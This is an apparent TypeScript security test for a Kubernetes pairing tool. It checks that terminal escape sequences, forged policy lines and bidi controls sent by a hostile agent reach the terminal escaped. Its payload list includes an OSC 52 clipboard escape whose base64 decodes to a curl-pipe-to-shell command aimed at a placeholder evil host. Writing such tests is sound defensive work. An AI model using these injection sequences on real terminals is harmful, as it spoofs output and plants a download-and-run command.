/**
 * End to end (issue 10, "Peer text reaches the terminal raw"): a hostile agent puts terminal
 * escape sequences, line breaks and bidi controls in its session description, and a real
 * `kubepair connect` process prints none of them as such; its banner states the session's real
 * policy mode. The agent is scripted in the test process (test/helpers/scripted-agent.ts) on a
 * real relay, since a real share refuses such rules.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { E2EStack } from '../helpers/e2e-stack.js';
import { startE2EStack } from '../helpers/e2e-stack.js';
import { proxyDescription, startScriptedAgent } from '../helpers/scripted-agent.js';

/** Every test is bounded: a connect that ignores a signal fails the test instead of hanging it. */
const T = { timeout: 60_000 };

/** ESC, BEL, the C1 range (U+0080-U+009F) and bidi controls, or bytes that were not UTF-8. */
function assertNothingActive(id: string, text: string): void {
  assert.ok(!text.includes('\u001b'), `${id}: an ESC reached the output:\n${text}`);
  assert.ok(!text.includes('\u0007'), `${id}: a BEL reached the output`);
  assert.doesNotMatch(text, /[\u0080-\u009f]/, `${id}: a C1 control reached the output`);
  assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/, `${id}: a bidi control reached the output`);
  assert.ok(!text.includes('\ufffd'), `${id}: bytes that are not UTF-8 reached the output`);
}

const HOSTILE_RULES = [
  'get pods\u001b]0;window title set by the agent\u0007',
  '\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u0007',
  'get configmaps\n  policy:  readonly',
  'get secrets\r  policy:  readonly',
  '\u001b[1A\u001b[2K  policy:  readonly',
  '\u009b1A\u009b2K\u009d0;title\u009c',
  'get \u202esdop\u202c',
];

describe('Security: e2e: a hostile agent\'s text reaches connect\'s terminal inert', () => {
  let stack: E2EStack;
  before(async () => {
    stack = await startE2EStack();
  });
  after(() => stack.close());

  const agentRelay = (): { url: string; token: string } => ({ url: stack.relayUrl, token: stack.tokens.agent });

  it('escape sequences in the cluster name and policy rules are shown, not obeyed, and the banner says "open"', T, async () => {
    const agent = await startScriptedAgent({
      relay: agentRelay(),
      description: proxyDescription({
        cluster: { name: 'prod\u001b]2;owned\u0007' },
        policy: { mode: 'open', allow: HOSTILE_RULES, deny: ['delete \u001b[8mhidden\u001b[0m'] },
        targets: ['kube-apiserver', 'redis'],
      }),
    });
    const connect = stack.startConnect(['--no-shell', agent.code]);
    try {
      await connect.waitFor(/export KUBECONFIG=\S+/, 20_000, 'stdout');
      assert.equal(await agent.outcome, 'paired');
      const stderr = connect.stderr();
      assertNothingActive('stderr', stderr);
      assertNothingActive('stdout', connect.stdout());
      assert.match(stderr, /^ {2}mode: {4}proxy$/m);
      assert.match(stderr, /^ {2}policy: {2}open, 8 rules:$/m, 'the real policy mode, from the validated enum');
      assert.doesNotMatch(stderr, /^\s*policy:\s*readonly/m, 'no rule forged a policy line');
      assert.match(stderr, /^ {4}allow "get pods\\x1b\]0;window title set by the agent\\x07"$/m, 'the rule is shown, escaped');
      assert.match(stderr, /^ {4}allow "get configmaps\\x0a {2}policy: {2}readonly"$/m);
      assert.match(stderr, /paired with cluster "prod2owned"/, 'the cluster name is sanitized');
    } finally {
      await connect.stop('SIGTERM');
      await agent.close();
    }
    assert.deepEqual(await stack.kubeconfigsLeft(), []);
  });

  it('a hostile key in an invalid description is quoted inert in the error, and nothing is written', T, async () => {
    const agent = await startScriptedAgent({
      relay: agentRelay(),
      description: { ...proxyDescription(), '\u001b]52;c;ZXZpbA==\u0007\u202e': true },
    });
    const connect = stack.startConnect(['--no-shell', agent.code]);
    try {
      const exit = await connect.exited;
      assert.equal(exit.code, 1, connect.stderr());
      assert.match(connect.stderr(), /the agent sent an invalid session description/);
      assertNothingActive('stderr', connect.stderr());
      assert.doesNotMatch(connect.stderr(), /\n\s+at /, 'no stack trace');
    } finally {
      await agent.close();
    }
    assert.deepEqual(await stack.kubeconfigsLeft(), []);
  });

  it('share quotes a hostile --allow rule inert in its refusal', T, async () => {
    const share = stack.spawnShare(['--policy', 'guarded', '--allow', 'get \u202esdop\u202c \u001b]0;x\u0007']);
    const exit = await share.exited;
    assert.equal(exit.code, 2, share.stderr());
    assert.match(share.stderr(), /invalid policy rule/);
    assertNothingActive('share stderr', share.stderr());
  });
});
